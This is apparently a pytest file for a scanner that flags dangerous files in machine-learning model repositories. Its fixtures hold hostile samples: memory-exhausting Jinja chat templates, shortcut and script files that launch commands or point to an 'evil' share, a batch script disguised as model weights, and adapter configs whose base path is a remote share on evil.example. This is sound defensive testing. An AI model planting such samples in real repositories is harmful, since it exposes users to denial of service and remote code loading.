"""Attacks that were thought up here after the published ones: each got through once."""

import json

import pytest

from cairn.domain import Verdict
from cairn.formats import BytesSource
from cairn.scanner import gather, report_of

DOUBLED = "{% for i in range(99) %}{% set ns.x = ns.x + ns.x %}{% endfor %}"
BAT = b"@echo off\r\npython app.py\r\npause\r\n"


def verdict(name: str, data: bytes) -> Verdict:
    return report_of(name, len(data), gather(BytesSource(data, name))).verdict


@pytest.mark.parametrize(
    "template",
    [
        "{{ '%9999999999d' % 1 }}",
        "{{ '%.9999999999f'|format(1.0) }}",
        "{% set ns = namespace(x='a') %}" + DOUBLED,
        "{% set x = 'a' %}{% set x = x ~ ' ' ~ x %}",
        "{% set x = [1] %}{% set x = [x, x] %}{{ x }}",
        "{% set x = 'a' %}{% set x = [x, x]|join %}",
    ],
)
def test_templates_that_fill_the_memory_are_suspicious(template: str) -> None:
    settings = json.dumps({"chat_template": template}).encode()
    assert verdict("tokenizer_config.json", settings) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "template",
    [
        "{% set content = content ~ m.content %}",
        "{% set ns.text = ns.text + m['content'] + sep + sep %}",
        "{% set x = x.split('a')[0] + x.split('a')[1] %}",
        "{{ '%5d of 100%' % n }}",
    ],
)
def test_templates_that_put_texts_together_are_not(template: str) -> None:
    assert verdict("tokenizer_config.json", json.dumps({"chat_template": template}).encode()) in (
        Verdict.CLEAN,
    )


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("run.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c id\n"),
        ("model.url", b"[InternetShortcut]\nURL=file://evil/share/x.exe\n"),
        ("setup.vbs", b'CreateObject("WScript.Shell").Run "calc"\n'),
        ("README.hta", b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"),
        ("fix.reg", b"Windows Registry Editor Version 5.00\r\n"),
        ("weights.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68),
        ("convert.command", b"python convert.py\n"),
    ],
)
def test_what_a_click_starts_for_its_name_alone_is_suspicious(name: str, data: bytes) -> None:
    assert verdict(name, data) is Verdict.SUSPICIOUS


@pytest.mark.parametrize("name", ["go-web.bat", "run.cmd"])
def test_a_script_of_windows_that_says_what_it_is_is_no_program_in_disguise(name: str) -> None:
    assert verdict(name, BAT) is Verdict.CLEAN
    assert verdict("pytorch_model.bin", BAT) is Verdict.MALICIOUS


@pytest.mark.parametrize("base", ["\\\\evil.example\\share\\base", "//evil.example/share/base"])
def test_a_base_on_a_share_of_another_machine_is_a_way_out(base: str) -> None:
    settings = json.dumps({"peft_type": "LORA", "base_model_name_or_path": base}).encode()
    assert verdict("adapter_config.json", settings) is not Verdict.CLEAN
    own = json.dumps({"base_model_name_or_path": "/data/models/base"}).encode()
    assert verdict("adapter_config.json", own) is Verdict.CLEAN
